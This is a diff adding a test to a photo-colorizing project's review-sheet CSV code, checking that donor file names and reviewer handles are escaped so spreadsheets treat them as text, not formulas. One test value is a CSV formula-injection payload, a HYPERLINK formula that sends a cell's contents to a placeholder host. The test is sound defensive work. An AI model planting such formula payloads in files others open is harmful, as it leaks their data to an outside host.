@@ -14,7 +14,7 @@ from sqlalchemy import func, select
 
 from colorize_core.errors import ReviewError
 from colorize_core.provenance import Event, Item, ProvenanceStore
-from colorize_core.review import parse_redo, read_sheet, rejected
+from colorize_core.review import parse_redo, read_sheet, rejected, write_sheet
 from tests.conftest import SAMPLES, bad_inputs
 from tests.test_cli import colorize
 
@@ -46,6 +46,19 @@ def test_a_review_sheet_is_read_whole_or_refused_naming_its_wrong_rows():
             read_sheet(text.encode())
     with pytest.raises(ReviewError, match="not UTF-8"):
         read_sheet((head + "7,caf\xe9.tif,approve,,\n").encode("latin-1"))
+    # A donor's file name is shown as text, never run as a formula; the sheet still reads back.
+    items = [{"id": 7, "rel_path": '=HYPERLINK("http://x/?"&A1,"a").jpg', "status": "done", "attention": [],
+              "decision": None, "review": []},
+             {"id": 8, "rel_path": "-1 scan.tif", "status": "done", "attention": ["low-colourfulness"],
+              "decision": "approved", "review": [{"by": "@ann"}]},
+             {"id": 9, "rel_path": "1-2.tif", "status": "done", "attention": [], "decision": None, "review": []}]
+    rows = list(csv.reader(io.StringIO("".join(write_sheet(items)))))
+    assert [(r[1], r[5]) for r in rows[1:]] == [("'=HYPERLINK(\"http://x/?\"&A1,\"a\").jpg", ""),
+                                                ("'-1 scan.tif", "'@ann"), ("1-2.tif", "")]
+    rows[1][6] = "approve"
+    out = io.StringIO()
+    csv.writer(out).writerows(rows)
+    assert read_sheet(out.getvalue().encode()) == [(7, "approved", "", {})]
     # Saved where the comma is the decimal mark (semicolons), or as Excel's "Unicode Text" (UTF-16, tabs).
     want = [(7, "rejected", "too red, see the sky", {"refine": "none", "work_size": 320}), (8, "approved", "", {})]
     for delimiter, encoding in ((";", "utf-8-sig"), ("\t", "utf-16")):
